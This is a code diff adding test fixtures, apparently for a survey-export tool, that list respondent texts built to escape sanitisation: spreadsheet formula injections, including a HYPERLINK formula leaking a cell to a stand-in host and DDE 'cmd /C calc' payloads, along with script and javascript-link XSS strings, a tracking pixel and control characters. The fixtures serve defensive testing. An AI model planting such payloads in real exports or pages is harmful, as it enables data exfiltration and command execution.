@@ -76,6 +76,44 @@ REFUSED: dict[str, str] = {
 }
 
 
+#: Respondents' texts that try to be something else than text in an output (issue 19):
+#: spreadsheet formulas (also behind the white space the import strips), Markdown and
+#: HTML. case -> text.
+HOSTILE_TEXTS: dict[str, str] = {
+    "formula_hyperlink": '=HYPERLINK("http://x.example/?fuite="&A1;"clic")',
+    "formula_dde": "+cmd|' /C calc'!A0",
+    "formula_at": "@SUM(1+1)",
+    "formula_minus": "-2+3+cmd|' /C calc'!A0",
+    "formula_tab": "\t=1+1",
+    "formula_cr": "\r=1+1",
+    "formula_spaces": "   =1+1",
+    "formula_line_break": "\n=1+1",
+    "formula_full_width": "\uff1d1+1",
+    "html_script": "<script>alert('x')</script>",
+    "html_img_onerror": '<img src=x onerror="alert(1)">',
+    "remote_image": "![](http://traceur.example/pixel.png)",
+    "javascript_link": "[cliquez ici](javascript:alert(1))",
+    "javascript_autolink": "<javascript:alert(1)>",
+    "fake_heading_cr": "rien\r# RÉSULTAT OFFICIEL : le conseil est dissous",
+    "fake_heading_lf": "rien\n\n# RÉSULTAT OFFICIEL",
+    "fake_rule": "---",
+    "html_comment": "<!-- caché -->",
+    "entity": "&lt;script&gt;",
+    "table_break": "a | b\n|---|---|\n| x | y |",
+    "emphasis_code": "**gras** _italique_ `code`",
+    "list_item": "1. premier",
+}
+
+#: Characters valid in a JSON string but impossible in XML (so in .docx and .odt).
+CONTROL_TEXTS: dict[str, str] = {
+    "vertical_tab": "avant\u000bapres",
+    "start_of_heading": "avant\u0001apres",
+    "nul": "avant\u0000apres",
+    "noncharacter_fffe": "avant\ufffeapres",
+    "escape_sequence": "avant\u001b[31mrouge",
+}
+
+
 def marked_answers(seed: int) -> dict[str, Any]:
     """Plausible answers whose ``commentaires`` is the corpus marker."""
     answers = Simulator(QUESTIONNAIRE, seed=seed).answers()
